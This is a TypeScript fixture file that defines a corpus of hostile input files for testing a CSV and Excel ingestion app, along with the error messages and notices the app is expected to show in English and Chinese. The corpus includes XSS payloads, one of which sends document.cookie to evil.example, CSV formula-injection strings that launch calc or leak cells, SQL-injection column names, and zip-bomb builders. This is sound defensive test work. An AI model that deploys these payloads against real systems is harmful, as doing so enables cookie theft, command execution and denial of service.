// The hostile-input corpus: every file, what is wrong with it, and what the
// user must see. generate.ts writes the files (and manifest.json) from these
// builders; the corpus tests read the written files and hold the app to the
// expectations below, which are written out by hand (never computed by the
// code under test).

import { gzipSync } from 'node:zlib';
import { strToU8, unzipSync } from 'fflate';
import iconv from 'iconv-lite';
import type { IngestErrorCode } from '../../src/ingest/errors';
import type { IngestMessageId } from '../../src/ingest/messages';
import { csvText, parquetBytes, utf8, utf8Bom, xlsxBytes } from '../support/fixtures-ingest';
import { craftZip, deflated } from './zip';

export interface ErrorOutcome {
  code: IngestErrorCode;
  /** The whole message, file name first, as the page shows it in English and in Chinese. */
  en: string;
  zh: string;
  row?: number;
  line?: number;
}

export interface LoadOutcome {
  rows: number;
  /** Column names of the table, in order. */
  columns?: string[];
  /** Every notice, by message id, in order. */
  notices: IngestMessageId[];
  /** Substrings the English notices must contain (rows, columns, values named). */
  noticeText?: string[];
  /** The same for the Chinese notices. */
  noticeTextZh?: string[];
  delimiter?: string;
  encoding?: string;
  /** Rows of the loaded table, in file order (all of them, or the first ones). */
  values?: Record<string, unknown>[];
}

/** How the session test treats a file that loads: the role the mapping gives it, and what grading with it must show. */
export interface SessionUse {
  /** The role detection gives the table. */
  role: 'lines' | 'customers' | 'ignore';
  /**
   * Grade with this file: `alone` with the base files set aside, or `base` in place of
   * the base file of its role. Mapping problems (English substrings) and the customers graded.
   */
  grade?: { with: 'alone' | 'base'; customers: number; problems?: string[] };
}

export interface CorpusCase {
  /** File name in files/ (or in the temp dir for large ones). */
  file: string;
  /** The name the user's file has, when that name cannot be a committed file name. */
  name?: string;
  wrong: string;
  /** Generated at test time (too large to commit): written to a path. */
  large?: { write(path: string): Promise<void> };
  build?: () => Uint8Array | Promise<Uint8Array>;
  /** Bytes come from zlib, whose output may differ between Node versions: the committed file is not compared with a fresh build. */
  nondeterministic?: true;
  error?: ErrorOutcome;
  /** The message in the browser, where it differs (a large UTF-8 CSV is read in place there, up to another limit). */
  browserError?: { en: string; zh: string };
  loads?: LoadOutcome;
  session?: SessionUse;
  /** Part of the end-to-end subset in Chromium. */
  e2e?: true;
}

// --- building blocks ---------------------------------------------------------------

export const LINES_HEADER = ['客户编号', '客户名称', '订单号', '订单日期', '销售额', '利润'];

/** Order lines like an ERP export, for `n` customers K001…; amounts and profits in whole yuan so sums are exact. */
export function orderLines(n: number, prefix = 'K', first = 1): (string | number)[][] {
  const rows: (string | number)[][] = [];
  for (let i = first; i < first + n; i++) {
    const id = `${prefix}${String(i).padStart(3, '0')}`;
    for (let k = 0; k < 1 + (i % 3); k++) {
      rows.push([id, `客户${i}号`, `SO-${id}-${k}`, `2025-0${1 + ((i + k) % 9)}-1${k}`, 1000 + ((i * 7919 + k * 104729) % 9000), ((i * 31 + k * 17) % 900) - 150]);
    }
  }
  return rows;
}

const text = (rows: (string | number | null)[][], delimiter = ',', eol = '\n') => utf8(csvText(rows, delimiter, eol));
const gbk = (s: string) => new Uint8Array(iconv.encode(s, 'gb18030'));
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((k, p) => k + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
};

/** Deterministic bytes that look like nothing (a linear congruential generator). */
function noise(n: number, seed: number): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

/** A real workbook (write-excel-file), re-packed without timestamps so the committed bytes do not change from run to run. */
async function workbook(): Promise<Uint8Array> {
  const parts = unzipSync(await xlsxBytes([{ sheet: '订单', data: [LINES_HEADER, ...orderLines(40)] }]));
  return craftZip(Object.entries(parts).map(([name, data]) => deflated(name, data)));
}

/** A workbook whose parts are re-packed by craftZip, so sizes can be declared at will. */
async function repacked(change: (name: string, data: Uint8Array) => ReturnType<typeof deflated> | ReturnType<typeof deflated>[] | null): Promise<Uint8Array> {
  const parts = unzipSync(await workbook());
  const entries = Object.entries(parts).flatMap(([name, data]) => {
    const changed = change(name, data);
    return changed === null ? [deflated(name, data)] : Array.isArray(changed) ? changed : [changed];
  });
  return craftZip(entries);
}

/** A sheet body of `bytes` that deflates about 400:1, as zip bombs do. */
function bombBody(bytes: number): Uint8Array {
  const row = strToU8('<row><c t="n"><v>0</v></c></row>'.repeat(32768));
  const big = new Uint8Array(bytes);
  for (let o = 0; o < bytes; o += row.length) big.set(row.subarray(0, Math.min(row.length, bytes - o)), o);
  return big;
}

const HTML_NAMES = [
  `<img src=x onerror="window.__corpusPwned=1;fetch('http://evil.example/steal?c='+document.cookie)">`,
  '<script>window.__corpusPwned=2</script>',
  '"><svg/onload=window.__corpusPwned=3>',
  'javascript:window.__corpusPwned=4',
  "{{constructor.constructor('window.__corpusPwned=5')()}}",
  '<iframe src="http://evil.example/frame"></iframe>',
  '&lt;b&gt;already escaped&lt;/b&gt; &amp; co',
];

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点这里")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

// --- the corpus ----------------------------------------------------------------------

export const CASES: CorpusCase[] = [
  // Nothing, or nothing but a header.
  {
    file: 'empty.csv',
    wrong: 'zero bytes',
    build: () => new Uint8Array(0),
    error: { code: 'empty', en: 'empty.csv: The file is empty.', zh: 'empty.csv：文件是空的。' },
    e2e: true,
  },
  {
    file: 'blank-lines.csv',
    wrong: 'only line breaks, spaces and a tab',
    build: () => utf8('\r\n  \n\t\n\n'),
    error: { code: 'empty', en: 'blank-lines.csv: The file has no content (only blank lines or spaces).', zh: 'blank-lines.csv：文件没有内容（只有空行或空格）。' },
  },
  {
    file: 'sep-hint-only.csv',
    wrong: 'only Excel\'s "sep=;" hint line',
    build: () => utf8('sep=;\n'),
    error: { code: 'empty', en: 'sep-hint-only.csv: The file holds no table.', zh: 'sep-hint-only.csv：文件里没有表格。' },
  },
  {
    file: 'header-only.csv',
    wrong: 'a header row and no data rows',
    build: () => utf8('客户编号,客户名称,销售额\r\n'),
    error: { code: 'header-only', row: 2, en: 'header-only.csv: The file has a header row but no data rows.', zh: 'header-only.csv：文件只有表头，没有数据行。' },
  },
  {
    file: 'header-only-twice.csv',
    wrong: 'two empty exports joined: the header twice (the second with its BOM), no data',
    build: () => concat(utf8Bom('客户编号,客户名称,销售额\r\n'), utf8Bom('客户编号,客户名称,销售额\r\n')),
    error: { code: 'header-only', row: 2, en: 'header-only-twice.csv: The file has a header row but no data rows.', zh: 'header-only-twice.csv：文件只有表头，没有数据行。' },
  },

  // Not text at all.
  {
    file: 'random-bytes.csv',
    wrong: 'random binary bytes named .csv',
    build: () => noise(4096, 7),
    error: {
      code: 'binary',
      line: 1,
      en: 'random-bytes.csv: This does not look like a text table: it contains NUL bytes (line 1). Is it really a .csv file?',
      zh: 'random-bytes.csv：这不像文本表格：含有 NUL 字节（第 1 行）。它真的是 .csv 文件吗？',
    },
    e2e: true,
  },
  {
    file: 'photo.csv',
    wrong: 'a PNG image renamed .csv',
    build: () => concat(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise(2000, 11)),
    error: { code: 'binary', en: 'photo.csv: This is a PNG image, not a table file.', zh: 'photo.csv：这是 PNG 图片，不是表格文件。' },
  },
  {
    file: 'report.xlsx',
    wrong: 'a PDF document renamed .xlsx',
    build: () => concat(utf8('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), noise(1000, 13)),
    error: { code: 'binary', en: 'report.xlsx: This is a PDF document, not a table file.', zh: 'report.xlsx：这是 PDF 文档，不是表格文件。' },
  },
  {
    file: 'old-excel.xlsx',
    wrong: 'an Excel 97–2003 (.xls, OLE2) workbook renamed .xlsx',
    build: () => concat(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise(4088, 17)),
    error: {
      code: 'binary',
      en: 'old-excel.xlsx: This is an Excel 97–2003 (.xls) workbook, which is not supported: save it as .xlsx or CSV in Excel.',
      zh: 'old-excel.xlsx：这是 Excel 97–2003（.xls）工作簿，不支持：请在 Excel 中另存为 .xlsx 或 CSV。',
    },
  },
  {
    file: 'orders.csv.gz.csv',
    wrong: 'a gzip-compressed CSV with a .csv name',
    nondeterministic: true,
    build: () => new Uint8Array(gzipSync(text([LINES_HEADER, ...orderLines(5)]), { mtime: 0 } as never)),
    error: { code: 'binary', en: 'orders.csv.gz.csv: This is a gzip archive, not a table file: unpack it first.', zh: 'orders.csv.gz.csv：这是 gzip 压缩包，不是表格文件：请先解压。' },
  },
  {
    file: 'orders-zip.csv',
    wrong: 'a zip archive holding a CSV, named .csv',
    nondeterministic: true,
    build: () => craftZip([deflated('orders.csv', text([LINES_HEADER, ...orderLines(5)]))]),
    error: { code: 'binary', en: 'orders-zip.csv: This is a zip archive, not an Excel workbook: unpack it first.', zh: 'orders-zip.csv：这是 zip 压缩包，不是 Excel 工作簿：请先解压。' },
  },
  {
    file: 'nul-in-text.csv',
    wrong: 'a text CSV with a NUL byte on line 5',
    build: () => {
      const t = csvText([LINES_HEADER, ...orderLines(3)]);
      const lines = t.split('\n');
      lines[4] = lines[4]!.replace(',', '\u0000,');
      return utf8(lines.join('\n'));
    },
    error: {
      code: 'binary',
      line: 5,
      en: 'nul-in-text.csv: This does not look like a text table: it contains NUL bytes (line 5). Is it really a .csv file?',
      zh: 'nul-in-text.csv：这不像文本表格：含有 NUL 字节（第 5 行）。它真的是 .csv 文件吗？',
    },
  },

  // Delimiters and quotes.
  {
    file: 'tab-separated.csv',
    wrong: 'tab-separated text named .csv (wrong delimiter for the name)',
    build: () => text([LINES_HEADER, ...orderLines(4)], '\t'),
    loads: { rows: 8, columns: LINES_HEADER, notices: [], delimiter: '\t' },
    session: { role: 'lines' },
  },
  {
    file: 'mixed-delimiters.csv',
    wrong: 'the header separated by ";" and the rows by ","',
    build: () => utf8([LINES_HEADER.join(';'), ...orderLines(3).map((r) => r.join(','))].join('\n') + '\n'),
    error: {
      code: 'ragged-row',
      row: 1,
      en: 'mixed-delimiters.csv: The header (row 1) is separated by ";" but the rows below it by ",". Save the file with one delimiter.',
      zh: 'mixed-delimiters.csv：表头（第 1 行）用 “;” 分隔，下面的行却用 “,” 分隔。请用同一种分隔符保存文件。',
    },
    e2e: true,
  },
  {
    file: 'unquoted-delimiter.csv',
    wrong: 'a customer name with a comma, not quoted, on row 4',
    build: () => {
      const rows = orderLines(3).map((r) => r.join(','));
      rows[2] = rows[2]!.replace('客户2号', '北京华联, 有限公司');
      return utf8([LINES_HEADER.join(','), ...rows].join('\n') + '\n');
    },
    error: {
      code: 'ragged-row',
      row: 4,
      en: `unquoted-delimiter.csv: Row 4 has more fields than the header's 6 (delimiter ","). A value may contain the delimiter without quotes, or the delimiter is wrong.`,
      zh: 'unquoted-delimiter.csv：第 4 行的字段比表头的 6 个多（分隔符 “,”）。可能是某个值里含有未加引号的分隔符，或分隔符不对。',
    },
  },
  {
    file: 'unterminated-quote.csv',
    wrong: 'a quoted name that never closes (line 3)',
    build: () => utf8(`${LINES_HEADER.join(',')}\nK001,客户1号,SO-1,2025-01-10,100,10\nK002,"客户2号,SO-2,2025-01-11,200,20\nK003,客户3号,SO-3,2025-01-12,300,30\n`),
    error: {
      code: 'bad-csv',
      line: 3,
      en: 'unterminated-quote.csv: Line 3 opens a quoted value that never closes.',
      zh: 'unterminated-quote.csv：第 3 行有一个引号开始的值一直没有结束。',
    },
  },

  // Encodings.
  {
    file: 'utf8-then-gbk.csv',
    wrong: 'mixed encodings: a UTF-8 export with GB18030 lines appended (lines 5–7)',
    build: () => {
      const rows = orderLines(3);
      return concat(text([LINES_HEADER, ...rows.slice(0, 3)]), gbk(csvText(rows.slice(3))));
    },
    loads: {
      rows: 6,
      columns: LINES_HEADER,
      notices: ['mixedEncodings'],
      encoding: 'gb18030',
      noticeText: ['3 line(s) (from line 5) are GB18030'],
      noticeTextZh: ['有 3 行（从第 5 行起）是 GB18030'],
      values: [
        { 客户编号: 'K001', 客户名称: '客户1号' },
        { 客户编号: 'K001', 客户名称: '客户1号' },
        { 客户编号: 'K002', 客户名称: '客户2号' },
        { 客户编号: 'K002', 客户名称: '客户2号' },
        { 客户编号: 'K002', 客户名称: '客户2号' },
        { 客户编号: 'K003', 客户名称: '客户3号' },
      ],
    },
    session: { role: 'lines' },
    e2e: true,
  },
  {
    file: 'utf8-one-bad-byte.csv',
    wrong: 'UTF-8 with one stray byte (0xFF) on line 7',
    build: () => {
      const t = text([LINES_HEADER, ...orderLines(10)]);
      let line = 1;
      let at = 0;
      while (line < 7) if (t[at++] === 0x0a) line++;
      at = t.indexOf(0x2c, at) + 1; // after the first comma of line 7
      return concat(t.subarray(0, at), new Uint8Array([0xff]), t.subarray(at));
    },
    loads: { rows: 20, columns: LINES_HEADER, notices: ['mostlyUtf8'], encoding: 'utf-8', noticeText: ['1 invalid byte sequence(s) (the first on line 7)'], noticeTextZh: ['第一处在第 7 行'] },
    session: { role: 'lines' },
  },
  {
    file: 'bom-in-middle.csv',
    wrong: 'two UTF-8-with-BOM exports joined: a BOM and the header again on row 5',
    build: () => {
      const rows = orderLines(3);
      return concat(utf8Bom(csvText([LINES_HEADER, ...rows.slice(0, 3)])), utf8Bom(csvText([LINES_HEADER, ...rows.slice(3)])));
    },
    loads: {
      rows: 6,
      columns: LINES_HEADER,
      notices: ['bomsRemoved', 'headerRepeated'],
      noticeText: ['the first on line 5', 'Row(s) 5 repeat the header'],
      noticeTextZh: ['第一个在第 5 行', '第 5 行与表头相同'],
    },
    session: { role: 'lines' },
  },

  // Size.
  {
    file: 'wide-10000-columns.csv',
    wrong: '10,000 columns',
    build: () => {
      const header = Array.from({ length: 10_000 }, (_, i) => `列${i + 1}`);
      return text([header, header.map((_, i) => i), header.map((_, i) => i * 2)]);
    },
    error: {
      code: 'too-many-columns',
      en: 'wide-10000-columns.csv: The table has 10,000 columns; at most 500 are supported. Export only the columns you need.',
      zh: 'wide-10000-columns.csv：表格有 10,000 列；最多支持 500 列。请只导出需要的列。',
    },
    e2e: true,
  },
  {
    file: 'million-identical-rows.csv',
    wrong: '1,000,000 identical order lines',
    large: {
      write: async (path) => {
        const { writeFile } = await import('node:fs/promises');
        const line = 'K900,重复客户,SO-9,2025-03-07,100.00,12.50\n';
        await writeFile(path, LINES_HEADER.join(',') + '\n' + line.repeat(1_000_000));
      },
    },
    loads: {
      rows: 1_000_000,
      columns: LINES_HEADER,
      notices: ['duplicateRows'],
      noticeText: ['999,999 of 1,000,000 rows are exact copies of an earlier row (the first at row 2)'],
      noticeTextZh: ['1,000,000 行中有 999,999 行与前面某一行完全相同（第一次在第 2 行）'],
      values: [{ 客户编号: 'K900', 客户名称: '重复客户', 订单号: 'SO-9', 销售额: 100, 利润: 12.5 }],
    },
    session: { role: 'lines' },
  },
  {
    file: 'two-gigabytes.csv',
    wrong: 'a 2 GiB CSV (a sparse file: a real header and rows, then zeros)',
    large: {
      write: async (path) => {
        const { open } = await import('node:fs/promises');
        const f = await open(path, 'w');
        await f.write(text([LINES_HEADER, ...orderLines(1000)]));
        await f.truncate(2 * 2 ** 30);
        await f.close();
      },
    },
    error: {
      code: 'too-large',
      en: 'two-gigabytes.csv: The file is 2048 MB; files up to 256 MB can be loaded in the browser. Split it, or export fewer columns or a shorter period.',
      zh: 'two-gigabytes.csv：文件有 2048 MB；浏览器里最多能载入 256 MB 的文件。请拆分文件，或只导出需要的列、更短的时间段。',
    },
    browserError: {
      en: 'two-gigabytes.csv: The file is 2048 MB; UTF-8 CSV files up to 1024 MB can be loaded in the browser. Split it, or export fewer columns or a shorter period.',
      zh: 'two-gigabytes.csv：文件有 2048 MB；浏览器里最多能载入 1024 MB 的 UTF-8 CSV 文件。请拆分文件，或只导出需要的列、更短的时间段。',
    },
    e2e: true,
  },
  {
    file: 'long-cell.csv',
    wrong: 'a 3 MB cell on line 3 (a whole document pasted into a remark)',
    large: {
      write: async (path) => {
        const { writeFile } = await import('node:fs/promises');
        await writeFile(path, `${LINES_HEADER.join(',')},备注\nK001,客户1号,SO-1,2025-01-10,100,10,好\nK002,客户2号,SO-2,2025-01-11,200,20,${'长'.repeat(2 ** 20)}\n`);
      },
    },
    error: {
      code: 'bad-csv',
      line: 3,
      en: 'long-cell.csv: Line 3 is longer than 2 MB: a cell holds a whole document, or a quote never closes.',
      zh: 'long-cell.csv：第 3 行超过 2 MB：一个单元格装了整份文档，或者某个引号没有闭合。',
    },
  },

  // Ids.
  {
    file: 'duplicate-ids-customers.csv',
    wrong: 'a customer master repeating ids (K001 three times, K002 twice)',
    build: () =>
      text([
        ['客户编号', '客户名称', '所属行业'],
        ['K001', '华东机械', '机械'],
        ['K001', '华东机械（重复）', '机械'],
        ['K002', '江南电子', '电子'],
        ['K001', '华东机械 第三行', '机械'],
        ['K002', '江南电子（重复）', '电子'],
        ['K003', '北方物流', '物流'],
      ]),
    loads: { rows: 6, columns: ['客户编号', '客户名称', '所属行业'], notices: [] },
    session: {
      role: 'customers',
      grade: {
        with: 'base',
        customers: 3,
        problems: ['repeats 2 customer ids (5 rows), e.g. "K001 ×3", "K002 ×2"; only the first row of each id is used.', '9 customer ids in "base_orders" (18 rows) match no customer in "duplicate_ids_customers"'],
      },
    },
  },
  {
    file: 'invisible-ids.csv',
    wrong: 'order lines whose customer ids carry a zero-width space or a no-break space (K001​, ␣K002)',
    build: () => {
      const rows = orderLines(4);
      for (const r of rows) {
        if (r[0] === 'K001') r[0] = 'K001\u200b';
        if (r[0] === 'K002') r[0] = '\u00a0K002';
      }
      return text([LINES_HEADER, ...rows]);
    },
    loads: { rows: 8, columns: LINES_HEADER, notices: [] },
    session: {
      role: 'lines',
      grade: {
        with: 'base',
        customers: 12,
        // DuckDB's trim() takes the no-break space off ␣K002, so only the zero-width space keeps K001 apart.
        problems: ['1 customer ids in "invisible_ids" (2 rows) match no customer in "base_customers", e.g. "K001⟨U+200B⟩"; those orders are left out of the grading.'],
      },
    },
  },

  // Absurd numbers.
  {
    file: 'nan-infinity.csv',
    wrong: 'amounts NaN, Infinity, -Infinity, inf, #DIV/0!, 1e309, 1e308, -1e308, 9.99E+307 and -0 among 20 good lines',
    build: () => {
      const rows = orderLines(10);
      const bad = ['NaN', 'Infinity', '-Infinity', 'inf', '#DIV/0!', '1e309', '1e308', '-1e308', '9.99E+307', '-0'];
      bad.forEach((v, i) => rows.push([`N${String(i + 1).padStart(2, '0')}`, `数值${i + 1}`, `SO-N${i + 1}`, '2025-06-01', v, i === 9 ? '-0' : 5]));
      return text([LINES_HEADER, ...rows]);
    },
    loads: {
      rows: 30,
      columns: [...LINES_HEADER.slice(0, 5), '销售额__raw', '利润'],
      notices: ['cellsNotParsed', 'valuesOutOfRange'],
      noticeText: [
        'Column "销售额": 4 cell(s) are not numbers (row 23 "Infinity", row 24 "-Infinity", row 25 "inf"); they count as missing, the original text is kept in "销售额__raw".',
        'Column "销售额": 4 value(s) of 10^15 or more (row 27 "1e309", row 28 "1e308", row 29 "-1e308") cannot be amounts, counts or ratings (overflow or placeholder values); they count as missing.',
      ],
      noticeTextZh: ['列“销售额”有 4 个单元格不是数字（第 23 行 “Infinity”、第 24 行 “-Infinity”、第 25 行 “inf”）', '列“销售额”有 4 个数值达到或超过 10¹⁵'],
    },
    session: { role: 'lines', grade: { with: 'alone', customers: 20 } },
    e2e: true,
  },
  {
    file: 'days-late-as-text.csv',
    wrong: 'a days-late column of mostly text (Infinity, -Infinity, NaN, 未付), so it stays text, mapped to "days late"',
    build: () => {
      const late = ['Infinity', '-Infinity', 'NaN', '3', '未付', '12'];
      return text([[...LINES_HEADER, '逾期天数'], ...orderLines(8).map((r, i) => [...r, late[i % late.length]!])]);
    },
    loads: { rows: 17, columns: [...LINES_HEADER, '逾期天数'], notices: [] },
    // Grading reads "Infinity" in a text column as missing, never as an infinite delay.
    session: { role: 'lines', grade: { with: 'alone', customers: 8, problems: ['The days late column "逾期天数" in "days_late_as_text" is not numeric; values that cannot be read count as missing.'] } },
  },
  {
    file: 'extreme-but-valid.csv',
    wrong: 'amounts at the edge of the range: 999,999,999,999,999, 1e-300, 5e-324 (denormal), -999999999999999',
    build: () => {
      const rows = orderLines(6);
      ['999999999999999', '1e-300', '5e-324', '-999999999999999'].forEach((v, i) => rows.push([`E${i + 1}`, `极值${i + 1}`, `SO-E${i + 1}`, '2025-06-02', v, v]));
      return text([LINES_HEADER, ...rows]);
    },
    loads: { rows: 16, columns: LINES_HEADER, notices: [] },
    session: { role: 'lines', grade: { with: 'alone', customers: 10 } },
  },
  {
    file: 'negative-zero.csv',
    wrong: 'amounts and profits written as -0, -0.0, -0.00, (0) and -¥0.00',
    build: () =>
      text([
        LINES_HEADER,
        ['Z1', '零1', 'SO-Z1', '2025-01-01', '-0', '-0'],
        ['Z2', '零2', 'SO-Z2', '2025-01-02', '-0.0', '-0.00'],
        ['Z3', '零3', 'SO-Z3', '2025-01-03', '(0)', '-¥0.00'],
        ['Z4', '零4', 'SO-Z4', '2025-01-04', '12.5', '-1.5'],
      ]),
    loads: {
      rows: 4,
      columns: LINES_HEADER,
      notices: [],
      values: [
        { 客户编号: 'Z1', 销售额: 0, 利润: 0 },
        { 客户编号: 'Z2', 销售额: 0, 利润: 0 },
        { 客户编号: 'Z3', 销售额: 0, 利润: 0 },
        { 客户编号: 'Z4', 销售额: 12.5, 利润: -1.5 },
      ],
    },
    session: { role: 'lines', grade: { with: 'alone', customers: 4 } },
  },
  {
    file: 'infinity.parquet',
    wrong: 'a Parquet double column holding Infinity, -Infinity, NaN and 1e308',
    build: () =>
      parquetBytes([
        { name: '客户编号', data: ['P1', 'P2', 'P3', 'P4', 'P5', 'P6', 'P7', 'P8', 'P9', 'P10', 'P11', 'P12', 'P13', 'P14'], type: 'STRING' },
        { name: '销售额', data: [10, 20, 30, 40, 50, 60, 70, 80, 90, 100, Infinity, -Infinity, NaN, 1e308], type: 'DOUBLE' },
      ]),
    loads: {
      rows: 14,
      columns: ['客户编号', '销售额', '销售额__raw'],
      notices: ['cellsNotParsed', 'valuesOutOfRange'],
      noticeText: ['2 cell(s) are not numbers (row 12 "Infinity", row 13 "-Infinity")', '1 value(s) of 10^15 or more (row 15 "1e+308")'],
    },
    // One row per customer with an amount: a customer-level file, graded as it is.
    session: { role: 'customers', grade: { with: 'alone', customers: 14 } },
  },

  // Names: markup, scripts, direction marks, invisible characters, emoji.
  {
    file: 'html-script-names.csv',
    wrong: 'customer names and a header holding HTML, <script>, event handlers, javascript: URLs and template syntax',
    build: () => {
      const rows = orderLines(HTML_NAMES.length);
      const ids = [...new Set(rows.map((r) => r[0]))];
      for (const r of rows) r[1] = HTML_NAMES[ids.indexOf(r[0]!)]!;
      return text([[...LINES_HEADER, '<b onmouseover="window.__corpusPwned=6">备注</b>'], ...rows.map((r, i) => [...r, i === 0 ? '<img src=x onerror=window.__corpusPwned=7>' : ''])]);
    },
    loads: { rows: 14, columns: [...LINES_HEADER, '<b onmouseover="window.__corpusPwned=6">备注</b>'], notices: [] },
    session: { role: 'lines', grade: { with: 'alone', customers: 7 } },
    e2e: true,
  },
  {
    file: 'hostile-file-name.csv',
    name: `<img src=x onerror="window.__corpusPwned=8">订单.csv`,
    wrong: 'the file name itself holds HTML (a name a committed file cannot have on every system)',
    build: () => text([LINES_HEADER, ...orderLines(3)]),
    loads: { rows: 6, columns: LINES_HEADER, notices: [] },
    session: { role: 'lines' },
    e2e: true,
  },
  {
    file: 'rtl-invisible-names.csv',
    wrong: 'names with a right-to-left override, Arabic and Hebrew, zero-width spaces and joiners; a header with an RLO and a zero-width space',
    build: () => {
      const names = ['\u202e司公限有联华京北', 'شركة الخليج للتجارة', 'חברת הסחר בע״מ', '北京\u200b华联', '👨\u200d👩\u200d👧 家庭商店', 'abc\u2066def\u2069ghi'];
      const rows = orderLines(names.length);
      const ids = [...new Set(rows.map((r) => r[0]))];
      for (const r of rows) r[1] = names[ids.indexOf(r[0]!)]!;
      return text([['客户编号', '\u202e客户名称', '订单号', '订单日期', '销售\u200b额', '利润'], ...rows]);
    },
    loads: {
      rows: 12,
      columns: LINES_HEADER,
      notices: ['invisibleInHeader'],
      noticeText: ['Removed invisible characters (zero-width or text-direction marks) from 2 header name(s): "客户名称", "销售额".'],
    },
    session: { role: 'lines', grade: { with: 'alone', customers: 6 } },
    e2e: true,
  },
  {
    file: 'emoji-names.csv',
    wrong: 'emoji in headers and names: flags, skin tones, ZWJ families, astral CJK',
    build: () => {
      const names = ['🏢 华联商厦', '🇨🇳 中国贸易', '👍🏽 好评客户', '𠀀𠀁 古字号', '👩\u200d💻 软件工作室'];
      const rows = orderLines(names.length);
      const ids = [...new Set(rows.map((r) => r[0]))];
      for (const r of rows) r[1] = names[ids.indexOf(r[0]!)]!;
      return text([['👤客户编号', '客户名称 🏷️', '订单号', '订单日期', '💰销售额', '利润📈'], ...rows]);
    },
    loads: { rows: 11, columns: ['👤客户编号', '客户名称 🏷️', '订单号', '订单日期', '💰销售额', '利润📈'], notices: [] },
    session: { role: 'lines', grade: { with: 'alone', customers: 5 } },
  },
  {
    file: 'hostile-headers.csv',
    wrong: 'column names with quotes, semicolons, SQL keywords and injection, internal names (__row, c1, rowid, x__raw), case-only duplicates, leading and trailing spaces',
    build: () =>
      text([
        [' 客户编号 ', '客户"名称', '订单号;单号', 'SELECT', '"; DROP TABLE base_orders; --', "' OR '1'='1", '__row', 'c1', 'rowid', 'Amount', 'amount', 'x__raw', '销售额  '],
        ['K001', '甲', 'SO-1', '1', '2', '3', '4', '5', '6', '7', '8', '9', '1200'],
        ['K002', '乙', 'SO-2', '1', '2', '3', '4', '5', '6', '7', '8', '9', '800'],
      ]),
    loads: {
      rows: 2,
      columns: ['客户编号', '客户"名称', '订单号;单号', 'SELECT', '"; DROP TABLE base_orders; --', "' OR '1'='1", '__row', 'c1', 'rowid', 'Amount', 'amount_2', 'x__raw_2', '销售额'],
      notices: ['duplicateHeaders'],
      noticeText: ['"amount" → "amount_2", "x__raw" → "x__raw_2"'],
    },
    session: { role: 'lines', grade: { with: 'alone', customers: 2 } },
    e2e: true,
  },
  {
    file: 'formula-injection.csv',
    wrong: 'ids, names and a remark starting with = + - @ TAB CR (CSV/formula injection)',
    build: () => {
      const rows = orderLines(FORMULAS.length).map((r) => [...r, '']);
      const ids = [...new Set(rows.map((r) => r[0]))];
      for (const r of rows) {
        const i = ids.indexOf(r[0]!);
        r[1] = FORMULAS[i]!;
        r[6] = FORMULAS[(i + 1) % FORMULAS.length]!;
      }
      rows.push(['=1+1', '=cmd|\' /C calc\'!A0', 'SO-F', '2025-05-05', '500', '-12'], ['+K999', '@sum', 'SO-G', '2025-05-06', '300', '-3']);
      return text([[...LINES_HEADER, '备注'], ...rows]);
    },
    loads: { rows: 14, columns: [...LINES_HEADER, '备注'], notices: [] },
    session: { role: 'lines', grade: { with: 'alone', customers: 8 } },
    e2e: true,
  },

  // Excel workbooks that are not.
  {
    file: 'truncated.xlsx',
    wrong: 'a real workbook cut off at 60 % (an interrupted download)',
    nondeterministic: true,
    build: async () => {
      const b = await workbook();
      return b.subarray(0, Math.floor(b.length * 0.6));
    },
    error: {
      code: 'bad-xlsx',
      en: 'truncated.xlsx: This Excel workbook is cut off or damaged: the zip directory at its end is missing (cut short while downloading or copying?). Export or copy it again.',
      zh: 'truncated.xlsx：这个 Excel 工作簿不完整或已损坏：文件末尾的 zip 目录缺失（下载或复制时被截断了？）。请重新导出或复制一次。',
    },
    e2e: true,
  },
  {
    file: 'not-a-zip.xlsx',
    wrong: 'CSV text named .xlsx',
    build: () => text([LINES_HEADER, ...orderLines(2)]),
    error: { code: 'bad-xlsx', en: 'not-a-zip.xlsx: This .xlsx file is not a valid Excel workbook (it is not a zip archive).', zh: 'not-a-zip.xlsx：这个 .xlsx 文件不是有效的 Excel 工作簿（它不是 zip 压缩包）。' },
  },
  {
    file: 'zip-bomb-overlap.xlsx',
    wrong: 'a zip bomb: 30 sheet entries all pointing at one 16 MB deflated sheet (480 MB declared), 17 kB on disk',
    nondeterministic: true,
    build: () =>
      repacked((name) => {
        if (!name.startsWith('xl/worksheets/sheet1')) return null;
        const first = deflated('xl/worksheets/sheet1.xml', bombBody(16 * 2 ** 20));
        return [first, ...Array.from({ length: 29 }, (_, i) => ({ ...first, name: `xl/worksheets/sheet${i + 2}.xml`, sameDataAs: first.name }))];
      }),
    error: {
      code: 'too-large',
      en: 'zip-bomb-overlap.xlsx: This workbook unpacks to 480 MB, more than the 400 MB a browser can handle; it may be a "zip bomb". Export it as CSV, or split it into smaller workbooks.',
      zh: 'zip-bomb-overlap.xlsx：这个工作簿解压后有 480 MB，超过浏览器能处理的 400 MB；它可能是“压缩炸弹”。请导出为 CSV，或拆分成较小的工作簿。',
    },
    e2e: true,
  },
  {
    file: 'zip-bomb-claims-4gb.xlsx',
    wrong: 'a sheet entry declaring 4 GB unpacked for 2 kB of data (a size deflate cannot produce)',
    nondeterministic: true,
    build: () => repacked((name, data) => (name.startsWith('xl/worksheets/sheet1') ? { ...deflated(name, data), declaredUnpacked: 0xfffffff0 } : null)),
    error: {
      code: 'bad-xlsx',
      en: 'zip-bomb-claims-4gb.xlsx: This workbook is damaged or crafted: "xl/worksheets/sheet1.xml" claims an unpacked size its compressed data cannot have.',
      zh: 'zip-bomb-claims-4gb.xlsx：这个工作簿已损坏或是伪造的：“xl/worksheets/sheet1.xml”声明的解压大小与它的压缩数据不符。',
    },
  },
  {
    file: 'zip-bomb-lying.xlsx',
